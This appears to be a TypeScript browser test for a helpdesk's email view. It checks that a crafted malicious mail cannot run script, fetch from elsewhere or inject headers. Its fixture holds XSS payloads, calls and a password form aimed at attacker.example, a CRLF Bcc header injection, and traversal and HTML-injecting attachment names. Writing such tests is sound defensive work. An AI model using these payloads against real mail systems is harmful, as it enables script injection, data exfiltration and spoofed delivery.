import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { hasDovecot } from '../bots/email/dovecot.ts';
import { type MailApp, startMailApp, support } from '../bots/email/mail-app.ts';
import { signIn } from '../setup/desk.ts';
import { until } from '../setup/until.ts';
import { chromiumPath, startChromium } from './chromium.ts';

if (!chromiumPath && process.env['CI']) throw new Error('CI needs Chromium for the browser tests.');
vi.setConfig({ testTimeout: 40_000 });

// What a mail can carry against whoever opens it in a browser; each would tell attacker.example, or show itself.
const html = `<html><body onload="document.title='owned'">
<script>fetch('https://attacker.example/script')</script><img src="https://attacker.example/pixel.png" onerror="document.title='owned'">
<svg onload="document.title='owned'"><a xlink:href="javascript:document.title='owned'">x</a></svg>
<iframe src="https://attacker.example/frame"></iframe><link rel="stylesheet" href="https://attacker.example/style.css">
<style>body{background:url(https://attacker.example/bg.png);display:none}</style>
<form action="https://attacker.example/form"><input name="password"></form>
<p>I want to talk to a human being, my deposit is missing</p>
<a href="javascript:document.title='owned'">press me</a> <a href="data:text/html,<script>document.title='owned'</script>">and me</a>
[markdown](javascript:document.title='owned') ![picture](https://attacker.example/md.png) <b>not bold</b>
</body></html>`;

describe.skipIf(!hasDovecot || !chromiumPath)('a mail that is made to hurt, in the desk', () => {
  let all: MailApp;
  let browser: Browser;
  let page: Page;
  const faults: string[] = [];
  beforeAll(async () => {
    [all, browser] = await Promise.all([startMailApp(), startChromium()]);
  });
  afterAll(async () => {
    await browser?.close();
    await all?.end();
  });

  test('nothing of it runs, nothing is fetched from elsewhere, and what was written can be read', async () => {
    const person = all.person();
    await person.mail({
      from: { name: '<img src=x onerror="document.title=\'owned\'">', address: person.address },
      subject: 'Deposit</title><script>document.title="owned"</script>\r\nBcc: everybody@demobet.example',
      html,
      attachments: [
        { filename: '../../../etc/passwd', content: 'root:x:0:0' },
        { filename: '"><img src=x onerror=alert(1)>.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
      ],
    });
    const agent = await signIn(all.app, { role: 'supervisor' });
    const ticket = await until(async () => (await agent.list()).tickets[0], 18_000);
    page = await (await browser.newContext({ locale: 'en', viewport: { width: 1280, height: 800 } })).newPage();
    const origin = new URL(all.app.url).origin;
    page.on('request', (request) => {
      if (request.url().startsWith('http') && new URL(request.url()).origin !== origin) faults.push(request.url());
    });
    page.on('dialog', (dialog) => {
      faults.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const [cookie = '', value = ''] = agent.cookie.split('=');
    await page.goto(`${origin}/docs/json`);
    await page.context().addCookies([{ name: cookie, value, url: origin }]);
    await page.goto(`${origin}/desk`);
    await page.locator('.ticket-row, [data-ticket], a', { hasText: ticket.number }).first().click();
    const log = page.getByRole('log');
    await log.getByText('my deposit is missing').first().waitFor();
    for (const details of await page.locator('details').all()) await details.locator('summary').click();
    await page.getByText('press me').first().waitFor();

    expect(await page.title()).not.toContain('owned');
    expect(await page.locator('[role=log] :is(script, iframe, form, svg a, link, object)').count()).toBe(0);
    for (const link of await page.locator('[role=log] a').all())
      expect(await link.getAttribute('href')).toMatch(/^(https?:|\/api\/desk\/files\/|mailto:)/);
    expect(await page.locator('body').evaluate((body) => getComputedStyle(body).display)).not.toBe('none');
    expect(faults).toEqual([]);
  });

  test('its names and headers reach nobody else: no path, no further receiver', async () => {
    const [row] = await all.app.query<{ body: { subject?: string; attachments?: { name: string; refused?: string }[] }; name: string }>(
      `select m.body, c.name from message m join conversation t on t.id = m.conversation_id join contact c on c.id = t.contact_id where m.author = 'contact' order by m.id limit 1`,
    );
    expect(row?.body.subject).not.toMatch(/[\r\n]/);
    for (const { name } of row?.body.attachments ?? []) expect(name).not.toMatch(/[/\\]|\.\./);
    expect((row?.body.attachments ?? []).map(({ refused }) => refused)).not.toContain(undefined);
    expect(all.post.to('everybody@demobet.example')).toEqual([]);
    expect(all.post.to(support)).toEqual([]);
  });
});
